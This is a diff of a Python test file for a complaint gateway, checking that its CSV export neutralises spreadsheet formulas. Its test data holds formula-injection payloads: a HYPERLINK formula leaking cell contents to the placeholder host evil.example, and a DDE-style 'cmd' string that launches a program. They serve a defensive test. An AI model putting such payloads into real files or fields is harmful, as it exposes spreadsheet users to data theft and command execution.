@@ -15,6 +15,8 @@ from sqlalchemy import select
 
 from gateway.app import create_app
 from gateway.models import CallRecord
+from gateway.runtime import Runtime
+from gateway.worker import make_worker
 from tests.gateway.test_central_events import SECRET, push
 from tests.gateway.test_console import KEY, PASSWORD, TOKEN, add, login, token
 
@@ -23,17 +25,31 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik untuk detail")'
 
 @pytest.fixture
 def console(make_settings) -> Flask:
-    app = create_app(make_settings(central_events_secret=SECRET, status_poll_seconds=0))
+    app = create_app(make_settings())
     add(app, "ani", "operator")
     add(app, "sari", "supervisor")
     yield app
     app.extensions["lapor"].close()
 
 
-def test_the_csv_export_never_hands_a_spreadsheet_a_formula(console):
+@pytest.fixture
+def delivering(make_settings, central) -> Flask:
+    """The console of a gateway that delivers to the sandbox central system, which
+    pushes status events back."""
+    app = create_app(
+        make_settings(central_events_secret=SECRET, forward_url=central.url, status_poll_seconds=0)
+    )
+    add(app, "sari", "supervisor")
+    yield app
+    app.extensions["lapor"].close()
+
+
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(delivering):
+    console = delivering
     api = console.test_client()
     agencies = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
-    for n, agency in enumerate(agencies):
+    codes = []
+    for n in range(len(agencies)):
         doc = {
             "channel": "sms",
             "received_at": f"2026-11-{n + 2:02d}T09:00:00+07:00",
@@ -41,7 +57,11 @@ def test_the_csv_export_never_hands_a_spreadsheet_a_formula(console):
             "title": FORMULA,
             "description": FORMULA + " jalan rusak di depan sekolah sudah dua bulan.",
         }
-        code = api.post("/api/v1/complaints", json=doc, headers=KEY).json["tracking_code"]
+        codes.append(api.post("/api/v1/complaints", json=doc, headers=KEY).json["tracking_code"])
+    worker = Runtime(console.extensions["lapor"].settings)  # delivered: events may follow
+    make_worker(worker, poll_seconds=0.01).run(max_idle_polls=1)
+    worker.close()
+    for n, (code, agency) in enumerate(zip(codes, agencies, strict=True)):
         event = {"event_id": f"e{n}", "tracking_code": code, "status": "dispositioned"}
         event |= {"occurred_at": f"2026-11-{n + 3:02d}T09:00:00+07:00", "agency": agency}
         pushed = push(api, event).json
